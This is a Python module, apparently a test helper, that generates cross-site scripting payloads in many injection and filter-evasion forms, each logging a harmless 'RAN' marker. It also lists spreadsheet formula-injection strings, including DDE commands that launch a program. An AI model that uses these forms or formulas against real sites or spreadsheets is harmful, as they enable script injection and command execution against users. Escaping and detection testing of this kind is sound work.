"""Texts that would run if they were taken for anything but text; each says so on the console when it does."""

from itertools import product
from random import Random

RAN = "RAN"
_CALLS = ("console.log('RAN')", "console.log(`RAN`)", "top.console.log('RAN')", "eval('console.log(\\'RAN\\')')")
_FORMS = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "\"><script>{}</script>", "'><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</script><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "<img src=x onerror={}>", "\"><img src=x onerror=\"{}\">", "'><img src=x onerror='{}'>", "<svg onload={}>", "<svg/onload={}>",
    "\"><svg onload=\"{}\">", "<body onload={}>", "<iframe srcdoc=\"<script>{}</script>\">", "<iframe src=\"javascript:{}\">",
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<input autofocus onfocus={}>",
    "\" autofocus onfocus=\"{}", "' autofocus onfocus='{}", "\" onload=\"{}", "<object data=\"javascript:{}\">",
    "<embed src=\"javascript:{}\">", "<math><mtext><img src=x onerror={}></mtext></math>", "<marquee onstart={}>",
    "<style onload={}></style>", "<link rel=stylesheet href=data:, onload={}>", "<select autofocus onfocus={}>",
    "<template><script>{}</script></template><img src=x onerror={}>", "<div hx-on:load=\"{}\" hx-get=\"/\" hx-trigger=\"load\">x</div>",
    "<div hx-get=\"/\" hx-vals=\"js:{{a:{}}}\" hx-trigger=\"load\">x</div>", "<a href=\"javascript:{}\" autofocus>x</a>",
    "{{% load x %}}<script>{}</script>", "{{{{ x|safe }}}}<img src=x onerror={}>", "&lt;script&gt;{}&lt;/script&gt;<b onclick={}>x</b>",
    "\u202e<script>{}</script>", "\x7f<img src=x onerror={}>", "＜script＞{}＜/script＞", "<scr<script>ipt>{}</script>",
    "<img src=`x` onerror={}>", "<img/src/onerror={}>", "<form><button formaction=\"javascript:{}\" autofocus>x", "javascript:{}",
    "data:text/html,<script>{}</script>", "<p style=\"background:url(javascript:{})\">x</p>",
)  # fmt: skip
FORMULAS = (
    '=HYPERLINK("http://x","RAN")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A0",
)
"""For tables: what Excel would calculate."""


def payloads(number: int, dice: Random) -> list[str]:
    """So many different ones, all the forms first."""
    made = [form.format(*[call] * form.count("{}")) for call, form in product(_CALLS, _FORMS)]
    first, rest = made[: len(_FORMS)], made[len(_FORMS) :]
    dice.shuffle(rest)
    return [*first, *FORMULAS, *rest][:number]
